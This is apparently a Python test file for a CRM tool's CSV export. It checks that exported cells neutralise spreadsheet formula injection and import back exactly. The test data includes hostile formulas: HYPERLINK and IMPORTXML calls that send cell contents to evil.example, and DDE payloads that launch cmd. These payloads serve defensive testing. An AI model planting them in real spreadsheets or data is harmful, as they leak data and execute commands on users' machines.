"""Spreadsheet formula injection in exports (issue 15, item 4).

Every way kam writes a spreadsheet file — ``kam export KIND [FILE]`` (to a file with a
BOM, to stdout without), which is ``storage.csvio.export_csv`` — is attacked with
names and notes a spreadsheet would run: ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return in front, and the same behind a quote (``'=…``), which a naive escape
would either leave live or take off on import.  Every cell of every kind must open as
text, and importing the export into an empty book must restore the exact text.
(kam writes no XLSX, and ``kam audit`` prints a terminal table or JSON lines, not a
spreadsheet file.)
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from sqlmodel import select
from typer.testing import CliRunner

from bot.cli import app
from domain.models import Account, Contact, Deal, Invoice, Payment, Team, User
from storage.csvio import BOM, KINDS
from storage.engine import make_engine
from storage.migrate import upgrade
from storage.session import unit_of_work
from tests import factories as f
from tests.csvkit import export, run_import
from tests.harness import book

LIVE = ("=", "+", "-", "@", "\t", "\r")  # what a spreadsheet runs (or hides a formula behind)

ACCOUNT = '=HYPERLINK("http://evil.example/?"&A1,"Acme")'
ATTACKS = {
    # (model, natural key of the row, column) → the hostile text
    "account name": ACCOUNT,
    "account industry": "@SUM(1+9)*cmd|' /C calc'!A0",
    "account snooze reason": "'=1+1",  # a quote before a formula: must come back with its quote
    "contact name": "+Li Wei",
    "contact title": "-2+3+cmd|' /C calc'!A0",
    "contact phone": "\t=1+1",
    "contact email": "''@x.example",  # two quotes, then a formula character
    "deal name": "@Line 9",
    "deal lost reason": "\r=1+1",
    "invoice note": "'-5% early",
    "user display name": "  =1+1",  # spaces first: some spreadsheets trim them
    "payment note": '=IMPORTXML(CONCAT("http://evil.example/?",A2),"//a")',
}


def _plant(engine) -> None:
    b = book(engine)
    with unit_of_work(engine) as s:
        acme = s.get(Account, b["acme"])
        alice = s.get(User, b["alice"])
        s.get(User, b["carol"]).display_name = ATTACKS["user display name"]
        evil = f.account(s, ATTACKS["account name"], owner=alice, tier="B", score=50.0)
        evil.industry = ATTACKS["account industry"]
        evil.snoozed_until = date(2026, 12, 1)
        evil.snooze_reason = ATTACKS["account snooze reason"]
        s.add(evil)
        contact = f.contact(s, evil, ATTACKS["contact name"], title=ATTACKS["contact title"])
        contact.phone = ATTACKS["contact phone"]
        contact.email = ATTACKS["contact email"]
        s.add(contact)
        f.deal(s, evil, ATTACKS["deal name"], owner=alice, amount="100000", stage="lost",
               close_date=date(2026, 10, 1))  # fmt: skip
        deal = s.exec(select(Deal).where(Deal.name == ATTACKS["deal name"])).one()
        deal.lost_reason = ATTACKS["deal lost reason"]
        s.add(deal)
        invoice = Invoice(
            number="FP-9", account_id=evil.id, amount=Decimal("1000.00"),
            issued_on=date(2026, 10, 1), due_on=date(2026, 10, 31), note=ATTACKS["invoice note"],
        )  # fmt: skip
        s.add(invoice)
        s.flush()
        s.add(Payment(number="SK-9", account_id=acme.id, amount=Decimal("10.00"),
                      received_on=date(2026, 10, 2), note=ATTACKS["payment note"]))  # fmt: skip
        s.add(s.get(Team, b["east"]))


def _cells(text: str) -> list[str]:
    return [
        cell for row in csv.reader(io.StringIO(text.removeprefix(BOM), newline="")) for cell in row
    ]


def _stored(engine) -> dict[str, str | None]:
    with unit_of_work(engine, write=False) as s:
        evil = s.exec(select(Account).where(Account.name == ACCOUNT)).one()
        contact = s.exec(select(Contact).where(Contact.account_id == evil.id)).one()
        deal = s.exec(select(Deal).where(Deal.account_id == evil.id)).one()
        invoice = s.exec(select(Invoice).where(Invoice.number == "FP-9")).one()
        payment = s.exec(select(Payment).where(Payment.number == "SK-9")).one()
        carol = s.exec(select(User).where(User.handle == "carol")).one()
        return {
            "account name": evil.name,
            "account industry": evil.industry,
            "account snooze reason": evil.snooze_reason,
            "contact name": contact.name,
            "contact title": contact.title,
            "contact phone": contact.phone,
            "contact email": contact.email,
            "deal name": deal.name,
            "deal lost reason": deal.lost_reason,
            "invoice note": invoice.note,
            "user display name": carol.display_name,
            "payment note": payment.note,
        }


def _opens_as_text(cell: str) -> bool:
    """How Excel, LibreOffice and WPS read a CSV cell: one leading quote makes it text."""
    return cell.startswith("'") or not cell.lstrip(" \n").startswith(LIVE)


def test_every_exported_cell_opens_as_text_and_imports_back_exactly(engine, empty_database_url):
    _plant(engine)
    assert _stored(engine) == ATTACKS
    first = {kind: export(engine, kind) for kind in KINDS}
    for kind, text in first.items():
        live = [cell for cell in _cells(text) if not _opens_as_text(cell)]
        assert not live, (kind, live)
    # and every hostile text is in the export, behind one quote more than it had
    written = {cell for text in first.values() for cell in _cells(text)}
    for what, value in ATTACKS.items():
        assert "'" + value in written, what

    other = make_engine(empty_database_url)
    try:
        upgrade(other)
        with unit_of_work(other) as s:
            s.add(User(handle="admin", display_name="Admin", role="admin"))
        run_import(other, "teams", "name\nEast\n华东\nWest\n")
        for kind in KINDS:
            run_import(other, kind, first[kind].encode())
        assert _stored(other) == ATTACKS
        for kind in KINDS:
            assert export(other, kind) == first[kind], kind
    finally:
        other.dispose()


@pytest.mark.parametrize("to_file", [True, False], ids=["file", "stdout"])
def test_kam_export_writes_the_same_escaped_cells(engine, database_url, tmp_path, monkeypatch,
                                                  to_file):  # fmt: skip
    _plant(engine)
    monkeypatch.chdir(tmp_path)
    monkeypatch.setenv("KAM_DATABASE_URL", database_url)
    for kind in KINDS:
        args = ["export", kind] + (["out.csv"] if to_file else [])
        result = CliRunner().invoke(app, args)
        assert result.exit_code == 0, result.output
        raw = (tmp_path / "out.csv").read_bytes() if to_file else result.stdout_bytes
        text = raw.decode("utf-8")
        live = [cell for cell in _cells(text) if not _opens_as_text(cell)]
        assert not live, (kind, live)
        assert text.removeprefix(BOM) == export(engine, kind, bom=False), kind
